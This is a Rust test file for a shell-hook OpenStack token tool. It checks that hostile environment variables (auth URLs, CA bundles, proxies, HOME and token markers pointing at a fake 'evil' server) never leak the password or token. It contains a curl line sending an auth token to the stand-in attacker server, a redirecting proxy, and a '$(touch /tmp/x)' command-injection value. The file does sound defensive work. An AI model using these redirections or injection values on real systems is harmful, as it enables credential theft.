//! Every variable that the program, its libraries or the hooks read, set to a hostile value in a hooked shell: neither the
//! password nor a token reaches another server. (The list: what `getenv` is asked for in a login and a prompt, and what
//! `src/` and `shell/` name. PATH, LD_* and the like run code by themselves.)

use std::fs;
use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::time::Duration;

use crate::support::pty::Shell;
use crate::support::tls::{Certificate, front};
use crate::support::{Fake, tool};
use crate::terminal::{in_each_shell, init, language};
use crate::user::User;

in_each_shell! {
    no_variable_of_a_folder_leads_password_or_token_elsewhere
    a_child_shell_of_a_hostile_folder_has_no_token
}

const PASSWORD: &str = "correct horse battery";

/// What does not name a server, a proxy, an authority or a place of the program's own.
const OTHERS: [&str; 33] = [
    "OS_TOKEN",
    "OS_AUTH_TYPE",
    "OS_USERNAME",
    "OS_USER_ID",
    "OS_USER_DOMAIN_NAME",
    "OS_USER_DOMAIN_ID",
    "OS_PROJECT_ID",
    "OS_TENANT_ID",
    "OS_TENANT_NAME",
    "OS_DOMAIN_ID",
    "OS_DOMAIN_NAME",
    "OS_DEFAULT_DOMAIN",
    "OS_SYSTEM_SCOPE",
    "OS_TRUST_ID",
    "OS_CLOUD",
    "OS_CERT",
    "OS_KEY",
    "OS_PASSCODE",
    "OS_APPLICATION_CREDENTIAL_ID",
    "OS_APPLICATION_CREDENTIAL_SECRET",
    "OSTOKEN_EXPORT",
    "OSTOKEN_SCRUB",
    "OSTOKEN_REFRESH_AFTER",
    "OSTOKEN_AUTH_TYPE",
    "OSTOKEN_USER_DOMAIN_NAME",
    "OSTOKEN_USERNAME",
    "TMPDIR",
    "LANG",
    "TERM",
    "NO_COLOR",
    "RUST_BACKTRACE",
    "SSLKEYLOGFILE",
    "no_proxy",
];

/// Somebody with a token in a hooked shell, and another server that wants it.
struct Attack {
    own: Fake,
    evil: Fake,
    person: User,
    /// Names and values that lead there.
    leads: Vec<(&'static str, String)>,
    client: String,
}

impl Attack {
    fn new() -> Option<Attack> {
        let curl = tool("curl")?;
        let (own, evil) = (Fake::start(), Fake::start());
        let (authority, stranger) = (Certificate::self_signed(&["own"]), Certificate::self_signed(&["evil"]));
        let port = front(own.port(), &authority.signed(&["localhost"]), None);
        let evil_port = front(evil.port(), &stranger.signed(&["localhost", "127.0.0.1"]), None);
        let mut person = User::with_keyutils(own.environment())?;
        let place = |name: &str| person.home.outside(name).to_str().unwrap().to_owned();
        fs::create_dir_all(place("evil/certificates")).unwrap();
        fs::write(place("own.pem"), &authority.pem).unwrap();
        for name in ["evil/ca.pem", "evil/certificates/5ed36f99.0"] {
            fs::write(place(name), &stranger.pem).unwrap();
        }
        let proxy = proxy(evil.port(), evil_port);
        let (http, socks) = (format!("http://127.0.0.1:{proxy}"), format!("socks5h://127.0.0.1:{proxy}"));
        let mut leads = vec![
            ("OS_AUTH_URL", evil.auth_url()),
            ("OS_INSECURE", "1".into()),
            ("OS_CACERT", place("evil/ca.pem")),
            ("SSL_CERT_FILE", place("evil/ca.pem")),
            ("SSL_CERT_DIR", place("evil/certificates")),
            ("REQUESTS_CA_BUNDLE", place("evil/ca.pem")),
            ("CURL_CA_BUNDLE", place("evil/ca.pem")),
            ("https_proxy", http.clone()),
            ("HTTPS_PROXY", socks),
            ("all_proxy", http.clone()),
            ("http_proxy", http),
            ("OSTOKEN_EXPORTED", "0123456789abcdef".into()),
            ("OSTOKEN_FOR", "0123456789abcdef".into()),
            ("OSTOKEN_EXPIRES_AT", "9999999999".into()),
            ("__ostoken_due", "9999999999".into()),
            ("__ostoken__seen", "x".into()),
            ("OSTOKEN_ALLOW_HTTP", "1".into()),
            ("OSTOKEN_KEYRING", "file".into()),
            ("OSTOKEN_KEYRING_SERVICE", "evil".into()),
            ("HOSTALIASES", place("evil/hosts")),
        ];
        for name in ["XDG_STATE_HOME", "XDG_RUNTIME_DIR", "HOME"] {
            leads.push((name, place("evil")));
        }
        leads.push(("DBUS_SESSION_BUS_ADDRESS", format!("unix:path={}", place("evil/bus"))));
        // What `openstack` would do: its token to its auth URL, trusting whom OS_CACERT names.
        let client = format!(
            "sh -c 'test -z \"$OS_TOKEN\" || {} -s -m 2 -o /dev/null ${{OS_INSECURE:+-k}} --cacert \"${{OS_CACERT:-{}}}\" \
             -H \"X-Auth-Token: $OS_TOKEN\" \"$OS_AUTH_URL/auth/tokens\"'",
            curl.display(),
            place("own.pem")
        );
        let own_authority = place("own.pem");
        person.set("OS_AUTH_URL", &format!("https://localhost:{port}/v3"));
        person.set("SSL_CERT_FILE", &own_authority);
        Some(Attack { own, evil, person, leads, client })
    }

    /// A prompt and a client in an environment with these values, in a scope that has no token; then the way back.
    fn one(&self, shell: &mut Shell, number: usize, hostile: &[(&str, &str)]) {
        let names: Vec<String> = hostile.iter().map(|(name, value)| format!("{name}='{value}'")).collect();
        // The OpenRC file is sourced once more, with nothing left of the one before: there is something to steal.
        shell.run("unset OS_AUTH_TYPE OS_PASSCODE OSTOKEN_AUTH_TYPE OSTOKEN_USERNAME OSTOKEN_USER_DOMAIN_NAME");
        shell.run("export OS_USER_DOMAIN_NAME=Default OS_PROJECT_NAME=demo");
        assert_ne!(shell.token(), "");
        // What direnv puts back on the way out.
        let before: Vec<_> = hostile.iter().map(|(name, _)| (*name, shell.get(name))).collect();
        shell.run(&format!("export OS_PROJECT_NAME=p{number} {}", names.join(" ")));
        shell.run(&self.client);
        for (name, value) in before {
            shell.run(&if value.is_empty() { format!("unset {name}") } else { format!("export {name}='{value}'") });
        }
        self.is_safe(&names.join(" "));
    }

    #[track_caller]
    fn is_safe(&self, what: &str) {
        for request in self.evil.requests() {
            let text = format!("{request:?}");
            assert!(!text.contains(PASSWORD) && !text.contains("gAAAAA"), "{what}: the other server has {text}");
        }
    }

    /// What is counted of a login's requests is forgotten: more are made here than anybody may make.
    fn forget_budget(&self) {
        for file in self.person.files("json").into_iter().filter(|path| path.to_string_lossy().ends_with(".login.json"))
        {
            let _ = fs::remove_file(file);
        }
    }
}

/// A proxy that leads every connection to the other server: CONNECT and SOCKS to its TLS, all else to its plain port.
fn proxy(plain: u16, tls: u16) -> u16 {
    let listener = TcpListener::bind(("127.0.0.1", 0)).unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            std::thread::spawn(move || lead(stream, plain, tls));
        }
    });
    port
}

fn lead(mut client: TcpStream, plain: u16, tls: u16) -> Option<()> {
    client.set_read_timeout(Some(Duration::from_secs(10))).ok()?;
    let mut head = vec![0; 4096];
    let size = client.read(&mut head).ok()?;
    let target = if head.starts_with(b"CONNECT ") {
        client.write_all(b"HTTP/1.1 200 OK\r\n\r\n").ok()?;
        tls
    } else if head.starts_with(&[5]) {
        client.write_all(&[5, 0]).ok()?;
        // Where to does not matter.
        let _ = client.read(&mut head).ok()?;
        client.write_all(&[5, 0, 0, 1, 127, 0, 0, 1, 0, 80]).ok()?;
        tls
    } else {
        plain
    };
    let mut server = TcpStream::connect(("127.0.0.1", target)).ok()?;
    if target == plain {
        server.write_all(&head[..size]).ok()?;
    }
    let (mut from, mut to) = (client.try_clone().ok()?, server.try_clone().ok()?);
    std::thread::spawn(move || std::io::copy(&mut from, &mut to));
    std::io::copy(&mut server, &mut client).ok().map(drop)
}

fn no_variable_of_a_folder_leads_password_or_token_elsewhere(name: &str) {
    let Some(attack) = Attack::new() else { return };
    let Some(mut shell) = attack.person.terminal(name, &init(name)) else { return };
    shell.token();
    // The test can fail: this is what the other server sees of whoever trusts it.
    shell.run(&format!("sh -c 'curl -sk -o /dev/null -H \"X-Auth-Token: probe\" {}'", attack.evil.auth_url()));
    assert!(format!("{:?}", attack.evil.requests()).contains("probe"));
    let mut number = 0;
    for (name, value) in &attack.leads {
        number += 1;
        attack.one(&mut shell, number, &[(name, value)]);
    }
    for name in OTHERS {
        number += 1;
        attack.forget_budget();
        attack.one(&mut shell, number, &[(name, "$(touch /tmp/x) ../../x")]);
        attack.one(&mut shell, number, &[(name, "x"), ("OS_AUTH_URL", &attack.evil.auth_url())]);
    }
    if name == "bash" {
        for (at, (first, value)) in attack.leads.iter().enumerate() {
            attack.forget_budget();
            for (second, other) in &attack.leads[at + 1..] {
                number += 1;
                attack.one(&mut shell, number, &[(first, value), (second, other)]);
            }
        }
    }
    attack.forget_budget();
    shell.run("export OS_USER_DOMAIN_NAME=Default OS_PROJECT_NAME=demo");
    assert_ne!(shell.token(), "", "the shell still works");
    assert!(attack.own.posts() > 5, "{} were made", attack.own.posts());
}

fn a_child_shell_of_a_hostile_folder_has_no_token(name: &str) {
    let Some(attack) = Attack::new() else { return };
    let Some(mut shell) = attack.person.terminal(name, &init(name)) else { return };
    let token = shell.token();
    let mark = shell.get("OSTOKEN_FOR");
    let own = shell.get("OS_AUTH_URL");
    for forged in ["OSTOKEN_EXPORTED=", "OSTOKEN_EXPIRES_AT=9999999999", "OSTOKEN_FOR=0123456789abcdef"] {
        let url = attack.evil.auth_url();
        shell.run(&format!("export OS_AUTH_URL={url} {forged}; {}", language::inner(name)));
        // PowerShell's hook says what is wrong just before that command.
        assert!(!shell.get("OS_TOKEN").contains(&token), "{forged}");
        shell.run(&attack.client);
        shell.run("exit");
        assert!(!shell.get("OS_TOKEN").contains(&token), "{forged}: the parent");
        shell.run(&format!("export OS_AUTH_URL={own} OSTOKEN_FOR={mark}"));
        assert_eq!(shell.token(), token);
    }
    attack.is_safe("a child shell");
}
